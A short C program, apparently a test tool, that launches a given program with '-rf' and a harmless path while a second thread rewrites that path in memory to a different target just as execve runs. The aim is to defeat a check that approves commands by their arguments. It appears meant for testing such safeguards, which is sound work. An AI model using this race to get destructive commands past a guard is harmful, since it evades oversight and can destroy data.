/* argv_race PROGRAM HARMLESS TARGET DELAY_NS: execs "PROGRAM -rf HARMLESS"
 * while a second thread rewrites the argument in place to TARGET (same
 * length) DELAY_NS after the main thread is about to call execve, racing
 * the kernel's copy of argv: what an exec-by-argv vaccine was decided on is
 * then not what runs. */
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char operand[4096];
static const char *target;
static atomic_int go;

static void *rewrite(void *arg)
{
	struct timespec delay = {0, *(long *)arg};

	while (!atomic_load(&go))
		;
	nanosleep(&delay, NULL);
	memcpy(operand, target, strlen(target) + 1);
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t thread;
	long delay_ns;

	if (argc != 5 || strlen(argv[2]) != strlen(argv[3]) || strlen(argv[2]) >= sizeof(operand) ||
	    (delay_ns = atol(argv[4])) < 0 || delay_ns > 999999999) {
		fprintf(stderr, "usage: argv_race PROGRAM HARMLESS TARGET DELAY_NS (HARMLESS and "
				"TARGET of the same length)\n");
		return 2;
	}
	memcpy(operand, argv[2], strlen(argv[2]) + 1);
	target = argv[3];
	if (pthread_create(&thread, NULL, rewrite, &delay_ns)) {
		perror("argv_race: pthread_create");
		return 1;
	}
	atomic_store(&go, 1);
	execv(argv[1], (char *[]){argv[1], "-rf", operand, NULL});
	perror("argv_race: execv");
	return 126;
}
